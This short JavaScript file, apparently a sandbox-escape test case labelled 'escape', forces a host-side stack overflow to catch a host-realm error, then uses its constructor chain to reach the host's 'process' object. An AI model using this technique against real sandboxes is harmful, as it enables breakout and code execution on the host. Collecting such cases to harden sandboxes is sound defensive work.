// family: escape
// a stack overflow inside the host gives an error of the host
async function main (bot) {
  const dive = () => { try { return dive() } catch { return bot.blockAt(bot.entity.position).position.offset(0, 0, 0) } }
  let caught = null
  const deep = () => { try { bot.findBlocks({ matching: () => deep(), maxDistance: 1 }) } catch (error) { caught ??= error; throw error } }
  try { deep() } catch (error) { caught = error }
  dive()
  abuse(bot, caught.constructor.constructor('return process')())
}
